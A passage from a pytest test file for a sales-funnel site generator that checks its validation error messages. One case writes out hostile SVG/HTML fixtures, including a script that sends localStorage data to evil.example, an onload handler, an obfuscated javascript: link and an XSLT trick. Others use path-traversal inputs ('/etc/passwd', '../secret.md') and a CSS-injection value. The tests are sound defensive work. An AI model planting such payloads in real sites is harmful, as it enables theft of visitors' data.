        {T: sales().replace("    price: {amount: 97}\n", "    price: {amount: 97}\n    guarantee: {days: true, text: Refund}\n")},
        [
            "funnels/tiny.yml:13: steps[1].guarantee.days: expected a number, got true",
        ],
        id="yes-is-not-a-number",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "seo:\n  title: '{page} } {site}'\n"},
        [
            "site.yml:4: seo.title: a '{' or '}' is not part of {page}, {funnel} or {site}; remove it or write it twice ({{ or }})",
        ],
        id="stray-brace-in-title-pattern",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "seo:\n  title: '{page:>40} | {site}'\n"},
        [
            "site.yml:4: seo.title: {page} has ':' or '!' after it: write {page} alone",
        ],
        id="format-spec-in-title-pattern",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "index: true\nhome: tiny\n"},
        [
            "site.yml:4: home: set either index: true or home, not both",
        ],
        id="index-and-home",
    ),
    pytest.param(
        {T: step_with("    body: Hello\n    body_file: content/story.md\n"),
         "content/story.md": "Once upon a time\n"},
        [
            "funnels/tiny.yml:10: steps[0].body_file: write either body or body_file, not both: remove one of them",
        ],
        id="body-and-body-file",
    ),
    # --- across files ---------------------------------------------------------------------------
    pytest.param(
        {T: FUNNEL_YML.replace("form:", "next: thank\n    form:")},
        [
            "funnels/tiny.yml:6: steps[0].next: no step 'thank' in this funnel (steps: join, thanks)",
        ],
        id="bad-next",
    ),
    pytest.param(
        {T: sales(decline="lite-offer")},
        [
            "funnels/tiny.yml:14: steps[1].decline.to: no step 'lite-offer' in this funnel (steps: offer, coaching, lite, thanks)",
        ],
        id="bad-decline-to",
    ),
    pytest.param(
        {T: step_with("    links:\n      - {text: Read the story, to: story}\n")},
        [
            "funnels/tiny.yml:10: steps[0].links[0].to: no step 'story' in this funnel (steps: join, thanks)",
        ],
        id="bad-link-to",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("form:", "next: join\n    form:")},
        [
            "funnels/tiny.yml:6: steps[0].next: step 'join' leads to itself: point it at another step",
        ],
        id="step-leads-to-itself",
    ),
    pytest.param(
        {T: FUNNEL_YML + "  - id: bonus\n    type: thankyou\n    headline: Bonus\n"},
        [
            "funnels/tiny.yml:12: steps[2].id: step 'bonus' cannot be reached from the entry step 'join': point a next:, decline.to or links[].to at it",
        ],
        id="unreachable-step",
    ),
    pytest.param(
        {T: "title: Story\nsteps:\n  - id: story\n    type: bridge\n    headline: My story\n"},
        [
            "funnels/tiny.yml:3: steps[0]: nothing follows bridge step 'story': add next: <step id> or a step after it",
        ],
        id="bridge-with-nothing-after",
    ),
    pytest.param(
        {T: JOIN},
        [
            "funnels/tiny.yml:3: steps[0]: nothing follows optin step 'join': add next: <step id> or a step after it",
        ],
        id="optin-with-nothing-after",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("id: thanks", "id: join")},
        [
            "funnels/tiny.yml:9: steps[1].id: step id 'join' is already used by steps[0]; give each step its own id",
        ],
        id="duplicate-step-id",
    ),
    pytest.param(
        {T: FUNNEL_YML + "    slug: join\n"},
        [
            "funnels/tiny.yml:12: steps[1].slug: URL /tiny/join/ is already used by steps[0]",
        ],
        id="duplicate-step-slug",
    ),
    pytest.param(
        {"funnels/other.yml": "slug: tiny\n" + FUNNEL_YML},
        [
            "funnels/other.yml:1: slug: funnel slug 'tiny' is already used by funnels/tiny.yml; choose another slug",
        ],
        id="duplicate-funnel-slug",
    ),
    pytest.param(
        {T: step_with("    image: {src: assets/logo.svg, alt: Logo}\n"),
         "assets/img/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>'},
        [
            "funnels/tiny.yml:9: steps[0].image.src: no file 'assets/logo.svg' in the site folder; did you mean 'assets/img/logo.svg'?",
        ],
        id="missing-asset-did-you-mean",
    ),
    pytest.param(
        {T: step_with("    image: {src: assets/Team-Photo.PNG, alt: Our team}\n"),
         "assets/team-photo.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 8 + b"IHDR" + b"\0\0\0\x10\0\0\0\x10\x08\x02\0\0\0"},
        [
            "funnels/tiny.yml:9: steps[0].image.src: no file 'assets/Team-Photo.PNG' in the site folder; the file there is 'assets/team-photo.png', and Linux servers tell a name's capitals apart: write 'assets/team-photo.png', or rename the file",
        ],
        id="asset-in-another-case",
    ),
    pytest.param(  # a Mac stores 'é' as 'e' and '´'; Linux tells the two apart
        {T: step_with("    image: {src: assets/café.svg, alt: Our café}\n"), "assets/cafe\u0301.svg": "<svg/>"},
        [
            "funnels/tiny.yml:9: steps[0].image.src: no file 'assets/café.svg' in the site folder: the file there stores its accents another way (as some Mac tools save names), which Linux servers tell apart; rename it by typing its name again: cafe\u0301.svg",
        ],
        id="asset-named-another-way-on-a-mac",
    ),
    pytest.param(  # published whether a page shows it or not; opened by itself, on the site's address
        {"assets/badge.svg": '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">\n'
                             '  <script>fetch("https://evil.example/?" + localStorage.funnelgen)</script>\n</svg>\n',
         "assets/seal.svg": '<svg xmlns="http://www.w3.org/2000/svg"\n onload="alert(1)"/>',
         "assets/link.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">'
                            '<a x:href=" j&#x61;vas&#x09;cript:alert(1)"><text>Go</text></a></svg>',
         "assets/cut.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)',
         "assets/bonus.html": "<h1>Bonus</h1><script>alert(1)</script>",
         "assets/icon.svg": '<?xml version="1.0" encoding="utf-16"?><svg xmlns="http://www.w3.org/2000/svg" '
                            'xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>',
         "assets/feed.xml": '<?xml-stylesheet type="text/xml" href="feed-style.xml"?><doc/>',
         "assets/schema.xsd": '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
         "assets/badge.svgz": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
         "assets/old.svg": b'<?xml version="1.0" encoding="Shift_JIS"?><svg xmlns="http://www.w3.org/2000/svg"/>',
         "assets/ok.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape">'
                          '<style>rect{fill:red}</style><a href="https://example.com/"><rect width="9" height="9" '
                          'opacity=".5" inkscape:label="Layer 1"/></a></svg>'},
        [
            "assets/badge.svg:3: holds a <script> element: opened by itself, the file would run it on your site's own address; remove it (an editor's 'plain' or 'optimised' SVG export has none)",
            "assets/badge.svgz: is a web page: opened from assets/, its scripts would run on your site's own address, where they can read what the site keeps about each visitor; pages come only from funnels/: remove it, or zip it to offer it as a download",
            "assets/bonus.html: is a web page: opened from assets/, its scripts would run on your site's own address, where they can read what the site keeps about each visitor; pages come only from funnels/: remove it, or zip it to offer it as a download",
            "assets/cut.svg:2: holds a <script> element: opened by itself, the file would run it on your site's own address; remove it (an editor's 'plain' or 'optimised' SVG export has none)",
            "assets/feed.xml:1: holds a stylesheet instruction (<?xml-stylesheet?>) that is not CSS: an XSLT one makes a page of the file: opened by itself, the file would run it on your site's own address; remove it",
            "assets/icon.svg:1: is XML that cannot be read (encoding specified in XML declaration is incorrect), which a browser may read otherwise, and run what it holds: export it again, as UTF-8",
            "assets/link.svg:1: holds a script link (href=): opened by itself, the file would run it on your site's own address; remove it (an editor's 'plain' or 'optimised' SVG export has none)",
            "assets/old.svg:1: is XML in an encoding funnelgen cannot check: export it again, as UTF-8",
            "assets/schema.xsd:1: holds a <script> element: opened by itself, the file would run it on your site's own address; remove it",
            "assets/seal.svg:1: holds an event handler (onload=): opened by itself, the file would run it on your site's own address; remove it (an editor's 'plain' or 'optimised' SVG export has none)",
        ],
        id="assets-that-would-run-a-script-on-the-site",
    ),
    pytest.param(  # there, but never published: said why
        {"site.yml": SITE_YML + "brand: {logo: assets/.drafts/logo.svg}\n", "assets/.drafts/logo.svg": "<svg/>"},
        [
            "site.yml:3: brand.logo: no file 'assets/.drafts/logo.svg' in the site folder: '.drafts' is named like a hidden file or an editor's backup, which funnelgen never publishes: rename it",
        ],
        id="hidden-asset",
    ),
    pytest.param(
        {T: step_with("    image: {src: assets/brochure.pdf, alt: Our brochure}\n"
                      "    links: [{text: Download the brochure, to: /assets/brochure.pdf}]\n"
                      "    testimonials: [{quote: It works, name: Ann, photo: assets/ann.jpg}]\n"
                      "    seo: {image: assets/team.heic}\n    video: {url: assets/intro.mp4, poster: assets/notes.txt}\n"),
         "assets/brochure.pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n",
         "assets/ann.jpg": b"%PDF-1.4\n1 0 obj\n",  # saved from a PDF viewer with another name
         "assets/team.heic": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic",
         "assets/intro.mp4": b"\x00\x00\x00\x18ftypmp42", "assets/notes.txt": "Poster ideas\n"},
        [
            "funnels/tiny.yml:9: steps[0].image.src: 'assets/brochure.pdf' is a PDF file, not a web picture: export it as JPEG, PNG or WebP and name that file here",
            "funnels/tiny.yml:11: steps[0].testimonials[0].photo: 'assets/ann.jpg' is a PDF file renamed to .jpg, not a web picture: export it as JPEG, PNG or WebP and name that file here",
            "funnels/tiny.yml:12: steps[0].seo.image: 'assets/team.heic' is a HEIC file, not a web picture: export it as JPEG, PNG or WebP and name that file here",
            "funnels/tiny.yml:13: steps[0].video.poster: 'assets/notes.txt' is not a web picture (JPEG, PNG, WebP, GIF, AVIF or SVG): export it as JPEG, PNG or WebP and name that file here",
        ],
        id="a-pdf-or-another-file-where-a-picture-goes",
    ),
    pytest.param(
        {T: step_with("    image: {src: assets/hero.jpg, alt: Hero}\n")},
        [
            "funnels/tiny.yml:9: steps[0].image.src: no file 'assets/hero.jpg' in the site folder",
        ],
        id="missing-asset",
    ),
    pytest.param(
        {T: step_with("    image: {src: /etc/passwd, alt: Hero}\n")},
        [
            "funnels/tiny.yml:9: steps[0].image.src: '/etc/passwd' is not an image the site can use: write a file in the assets folder (e.g. assets/photo.jpg) or an https:// URL",
        ],
        id="absolute-asset-path",
    ),
    pytest.param(
        {T: step_with("    body_file: content/story.md\n"), "content/stroy.md": "Once\n"},
        [
            "funnels/tiny.yml:9: steps[0].body_file: no file 'content/story.md' in the site folder; did you mean 'content/stroy.md'?",
        ],
        id="missing-body-file",
    ),
    pytest.param(
        {T: step_with("    body_file: ../secret.md\n")},
        [
            "funnels/tiny.yml:9: steps[0].body_file: '../secret.md' must be a Markdown file inside the content folder, e.g. content/story.md",
        ],
        id="body-file-outside-site",
    ),
    pytest.param(
        {T: step_with("    body_file: content/.drafts/story.md\n"), "content/.drafts/story.md": "Once\n"},
        [  # never counted in what a build depends on: a change to it would rebuild nothing
            "funnels/tiny.yml:9: steps[0].body_file: 'content/.drafts/story.md': '.drafts' is named like a hidden file or an editor's backup, which funnelgen never reads: rename it",
        ],
        id="hidden-body-file",
    ),
    pytest.param(
        {T: step_with("    body_file: content\\\\Intro.md\n"), "funnels/b.yml": step_with("    body_file: ./content/intro.MD\n")},
        [  # as Windows and shell habits write a path: the path meant
            "funnels/b.yml:9: steps[0].body_file: './content/intro.MD' must be a Markdown file inside the content folder: write 'content/intro.md' (and end the file's name in .md, in small letters)",
            "funnels/tiny.yml:9: steps[0].body_file: 'content\\\\Intro.md' must be a Markdown file inside the content folder: write 'content/Intro.md'",
        ],
        id="body-file-written-the-windows-way",
    ),
    pytest.param(
        {T: step_with("    body_file: content/über-uns.md\n"), "content/u\u0308ber-uns.md": "Once\n",
         "funnels/b.yml": step_with("    body_file: content/story.md\n"), "content/Story.md": "Once\n"},
        [  # a Mac stores 'ü' as 'u' and '¨'; Linux tells the two, and capitals, apart
            "funnels/b.yml:9: steps[0].body_file: no file 'content/story.md' in the site folder; the file there is 'content/Story.md', and Linux servers tell a name's capitals apart: write body_file: content/Story.md, or rename the file",
            "funnels/tiny.yml:9: steps[0].body_file: no file 'content/über-uns.md' in the site folder: the file there stores its accents another way (as some Mac tools save names), which Linux servers tell apart; rename it by typing its name again: u\u0308ber-uns.md",
        ],
        id="body-file-named-another-way-on-a-mac",
    ),
    pytest.param(
        {T: step_with("    body_file: content/story.md\n"), "content/story.md/part1.md": "Once\n"},
        [
            "funnels/tiny.yml:9: steps[0].body_file: 'content/story.md' is a folder; name a Markdown file in it",
        ],
        id="body-file-is-a-folder",
    ),
    pytest.param(
        {T: step_with("    body_file: content/story.md\n"), "content/story.md": b"Caf\xe9\n"},
        [
            "content/story.md:1: byte 0xe9 is not UTF-8; save the file as UTF-8 (in most editors: File > Save with Encoding > UTF-8)",
        ],
        id="body-file-not-utf8",
    ),
    pytest.param(  # saved with an old Mac's line ends, CR alone
        {T: step_with("    body_file: content/story.md\n"), "content/story.md": b"One\rTwo\r[our plan](/nowhere/)\r"},
        [
            "content/story.md:3: link '/nowhere/' leads to no page of this site: link to one of its pages (e.g. /tiny/) or write the full https:// address of a page elsewhere",
        ],
        id="body-file-with-cr-line-ends",
    ),
    pytest.param(
        {T: step_with("    body_file: content/story.md\n"),
         "content/story.md": "Our old page /nowhere/ is gone.\n\nSee [our plan](/nowhere/).\n"},
        [
            "content/story.md:3: link '/nowhere/' leads to no page of this site: link to one of its pages (e.g. /tiny/) or write the full https:// address of a page elsewhere",
        ],
        id="body-file-mentions-the-dead-link-before-linking-it",
    ),
    pytest.param(
        {T: step_with("    body_file: content/story.md\n"),
         "content/story.md": "".join(f"[page {i}](/gone-{i}/)\n" for i in range(130))},
        [
            *(f"content/story.md:{i + 1}: link '/gone-{i}/' leads to no page of this site: link to one of its pages "
              "(e.g. /tiny/) or write the full https:// address of a page elsewhere" for i in range(100)),
            "content/story.md:101: and 30 more links that lead to no page of this site from here on; fix the ones above first",
        ],
        id="body-file-of-many-dead-links-names-the-first-hundred",
    ),
    pytest.param(  # one dead link written many times hides none of the others
        {T: step_with("    body_file: content/story.md\n"),
         "content/story.md": "[our plan](/nowhere/)\n" * 150 + "See [the rest](/gone/).\n"},
        [
            "content/story.md:1: link '/nowhere/' leads to no page of this site: link to one of its pages (e.g. /tiny/) or write the full https:// address of a page elsewhere (written 150 times)",
            "content/story.md:151: link '/gone/' leads to no page of this site: link to one of its pages (e.g. /tiny/) or write the full https:// address of a page elsewhere",
        ],
        id="body-file-writes-one-dead-link-many-times",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "theme: dark\n"},
        [
            "site.yml:3: theme: no theme 'dark' (built-in themes: bold, clean, minimal; or a folder such as ./mytheme)",
        ],
        id="unknown-theme",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "theme: cleen\n"},
        [
            "site.yml:3: theme: no theme 'cleen': did you mean 'clean'?",
        ],
        id="misspelt-theme",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "theme_options:\n  max_widht: 50rem\n"},
        [
            "site.yml:4: theme_options.max_widht: theme 'clean' has no option 'max_widht': did you mean 'max_width'? (options: accent, background, button_style, max_width, primary, radius, text)",
        ],
        id="unknown-theme-option",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "theme_options:\n  primary: blu\n  accent: 'red; } body { display: none'\n"
                                "  text: 'rgb(0 0 0 / 80%)'\n  background: lightyellow\n  radius: 4px\n"},
        [
            "site.yml:4: theme_options.primary: 'blu' is not a colour: did you mean 'blue'? Or write a hex colour in quotes (\"#1d4ed8\"), rgb(…), hsl(…) or a colour name such as navy",
            "site.yml:5: theme_options.accent: 'red; } body { display: none' is not a colour: write a hex colour in quotes (\"#1d4ed8\"), rgb(…), hsl(…) or a colour name such as navy",
        ],
        id="theme-option-that-is-not-a-colour",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "home: webinar\n"},
        [
            "site.yml:3: home: no funnel 'webinar' (funnels: tiny)",
        ],
        id="home-names-missing-funnel",
    ),
    pytest.param(
        {T: sales().replace("    testimonials: [{quote: It works, name: Ann}]\n", "")},
        [
            "funnels/tiny.yml:3: steps[0]: offer has no testimonials: add testimonials: with a customer's quote and name (--strict)",
        ],
        ("--strict",),
        id="strict-warning-is-error",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "thme: clean\nbrand:\n  colors: {primary: 'blue'}\n",
         T: FUNNEL_YML.replace("headline: Join the list", "headline: 2026").replace(
             "id: thanks", "id: Thanks")},
        [
            "funnels/tiny.yml:5: steps[0].headline: expected text, got 2026; put it in quotes: \"2026\"",
            "funnels/tiny.yml:9: steps[1].id: 'Thanks' is not a valid slug: use lowercase letters, digits and single '-', e.g. 'thanks'",
            "site.yml:3: thme: unknown key 'thme': did you mean 'theme'?",
            "site.yml:5: brand.colors.primary: 'blue' is not a colour: write a hex colour in quotes, e.g. \"#1f6feb\"",
        ],
        id="several-errors-in-two-files",
    ),
]


def _with_options(case: Any) -> Any:
    """Every case as (files, expected, command-line options); most cases have no options."""
    files, expected, *options = case.values
    return pytest.param(files, expected, options[0] if options else (), id=case.id)


@pytest.mark.parametrize(("files", "expected", "options"), [_with_options(c) for c in CASES])
def test_bad_input(
    files: dict[str, str | bytes | None],
    expected: list[str],
    options: tuple[str, ...],
    make_site: MakeSite,
    run_cli: Callable[..., Result],
    tmp_path: Path,
) -> None:
    """Build a good site, break it, build and check again: clear lines, old build untouched."""
    site = make_site()
    out = tmp_path / "build" / "out"
    good = run_cli("build", site, "-o", out)
    assert good.exit_code == 0, good.output
    before = snapshot(out)

    make_site(files)
    for rel, content in files.items():
        if content is None:
            (site / rel).unlink()

    summary = [f"{len(expected)} problems; nothing was written."] if len(expected) > 1 else []
    for command in (["build", site, "-o", out], ["check", site]):
        result = run_cli(*command, *options)
        assert "Traceback" not in result.output
        assert result.stderr.splitlines() == [*expected, *summary]
        assert result.exit_code == 1
    assert snapshot(out) == before
    assert sorted(p.name for p in out.parent.iterdir()) == [".out.funnelgen-templates", "out"]


CONSENT_WARNING = ("warning: site.yml:3: consent: the banner asks visitors' consent for nothing: no analytics "
                   "provider is configured (tracking: ga4, meta_pixel, plausible, beacon, head or body); "
                   "remove consent, or add a provider")


@pytest.mark.parametrize(("tracking", "expected"), [
    ("", [CONSENT_WARNING]),
    ("tracking: {plausible: {domain: tiny.example}}\n", []),
    ("tracking: {head: <script src=\"https://cdn.example/widget.js\" async></script>}\n", []),
], ids=["no-provider", "a-provider", "a-snippet"])
def test_a_consent_banner_with_nothing_to_consent_to_is_a_warning(
    tracking: str, expected: list[str], make_site: MakeSite, run_cli: Callable[..., Result], tmp_path: Path,
) -> None:
    """The banner would ask for consent to load nothing: the site builds, with one line saying so."""
    site = make_site({"site.yml": SITE_YML + "consent: {mode: banner}\n" + tracking})
    result = run_cli("build", site, "-o", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert result.stderr.splitlines() == expected


def test_empty_temperature_rules_turn_the_built_in_rules_off(make_site: MakeSite, run_cli: Callable[..., Result],
                                                            tmp_path: Path) -> None:
    """`rules: []` is not a mistake: no rules, so every visitor gets `default` (or what ?temp= says)."""
    site = make_site({"site.yml": SITE_YML + "temperature: {default: warm, rules: []}\n"})
    result = run_cli("build", site, "-o", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert result.stderr == ""
    page = (tmp_path / "out" / "tiny" / "index.html").read_text(encoding="utf-8")
    assert '"temperature":{"default":"warm","rules":[]}' in page


@pytest.mark.parametrize("zone", ["UTC", "Etc/UTC", "America/Phoenix", "US/Eastern", "Asia/Kolkata"])
def test_a_webinar_in_utc_or_in_a_place_s_zone_builds(zone: str, make_site: MakeSite,
                                                      run_cli: Callable[..., Result], tmp_path: Path) -> None:
    """Refusing abbreviations and fixed offsets leaves UTC, and every place's zone, as it was."""
    site = make_site({T: webinar_with(zone)})
    result = run_cli("build", site, "-o", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert result.stderr == ""
